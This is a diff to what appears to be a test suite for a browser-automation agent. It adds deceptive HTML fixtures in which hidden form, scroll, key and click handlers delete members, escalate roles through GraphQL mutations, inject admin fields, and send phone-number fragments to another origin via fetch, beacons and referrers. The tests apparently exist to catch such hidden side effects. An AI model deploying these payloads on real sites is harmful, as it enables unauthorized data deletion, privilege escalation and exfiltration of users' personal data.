@@ -19,6 +19,8 @@ from studio.domain.actions.action import (
     Navigate,
     OpenTab,
     Press,
+    Scroll,
+    ScrollWay,
     SelectOption,
     SetChecked,
     Upload,
@@ -96,6 +98,14 @@ LIES: dict[str, tuple[str, Sequence[Action]]] = {
     "v15 a key that takes away": (
         CALL + "<div id=x role=button tabindex=0 onkeydown=\"if(event.key=='Delete')call('/members/5','','DELETE')\">★</div>", [
             Press(target=_at("button", "詳細", "#x"), keys="Delete")]),
+    "v16 a form that goes into a frame": (
+        _FORM.replace("<form", "<form target=sink") + "<iframe name=sink hidden></iframe>", [Fill(target=_TEL_FIELD, value="{{電話}}"), _SAVE]),
+    "v17 a mutation that is read": (
+        CALL + "<button id=x aria-label=★ onclick=\"window.inHand=fetch('/graphql?query=mutation{setRole(id:5){id}}')\">★</button>", [
+            Click(target=_at("button", "検索", "#x"))]),
+    "v18 a page that acts as it is scrolled": (
+        CALL + "<p style=height:4000px>…</p><script>onscroll=()=>call('/members/5','','DELETE')</script>", [Scroll(way=ScrollWay.DOWN)]),
+    "v19 a picture that is taken away": ("<a id=x href=/profile/icon/delete>★</a>", [Click(target=_at("link", "詳細", "#x"))]),
 }  # fmt: skip
 
 
@@ -105,7 +115,7 @@ async def _play(stage: Stage, html: str, actions: Sequence[Action], row: str = "
     web.start_over()
     web.put("/page", f"<title>顧客</title><h1>顧客</h1>{html}")
     web.put("/f", _FORM, Origin.PORT)
-    web.changing = frozenset({"/sakujyo.php"})
+    web.changing = frozenset({"/sakujyo.php", "/taikai", "/graphql", "/profile/icon/delete"})
     own = web.urls[Origin.OWN]
     shapes = tuple(
         SentShape(site=own, method=method, path=path, fields=(("tel", "**"), ("role", "*")))
@@ -177,6 +187,24 @@ PAGES: dict[str, tuple[str, str, tuple[str, ...]]] = {
         _FORM.replace("<form", "<form onsubmit=\"if(confirm('全員を管理者にしますか？'))this.role.value=9\""), _ROW, ("role=9",)),
     "w16 another list that is changed as it is sent": (
         _FORM.replace("<form", "<form onsubmit=\"this.role.value=9\""), _ROW, ("role=9",)),
+    "w17 another end in a frame": (
+        _FORM.replace("<form", "<form onsubmit=\"this.target='sink';this.action='/members'\"") + "<iframe name=sink hidden></iframe>", _ROW, ("/members",)),
+    "w18 a query instead of a form": (_FORM.replace("<form", "<form onsubmit=\"this.method='get';this.action='/taikai'\""), _ROW, ("/taikai",)),
+    "w19 more as the form is gathered": (
+        _FORM.replace("<form", "<form onformdata=\"event.formData.append('admin','on')\""), _ROW, ("admin",)),
+    "w20 a beacon beside it": (
+        _FORM.replace("<form", "<form onsubmit=\"navigator.sendBeacon('/members',new URLSearchParams({role:9}))\""), _ROW, ("/members",)),
+    "w21 a mutation beside it": (
+        _FORM.replace("<form", "<form onsubmit=\"fetch('/graphql?query=mutation{setRole(id:5){id}}',{keepalive:true})\""), _ROW, ("mutation",)),
+    "w22 a half of it to another site": (
+        _FORM.replace("<form", "<form onsubmit=\"fetch('{other port}/x?'+this.tel.value.slice(0,7),{mode:'no-cors',keepalive:true})\""), _ROW, ("GET /x",)),
+    "w23 the page it comes from to another site": (
+        _FORM.replace("<form", "<form onsubmit=\"history.replaceState(0,'','/page?t='+this.tel.value);fetch('{other port}/x',{mode:'no-cors',"
+                      "keepalive:true,referrerPolicy:'unsafe-url'})\""), _ROW, ("GET /x",)),
+    "w24 a button of the same name before it": (
+        _FORM.replace("<form", "<button form=f formaction=/members>更新</button><form id=f"), _ROW, ("/members",)),
+    "w25 sent once more by itself": (
+        _FORM.replace("<form", "<iframe name=sink hidden></iframe><form target=sink onsubmit=\"setTimeout(()=>this.submit(),50)\""), _ROW, ()),
 }  # fmt: skip
 
 
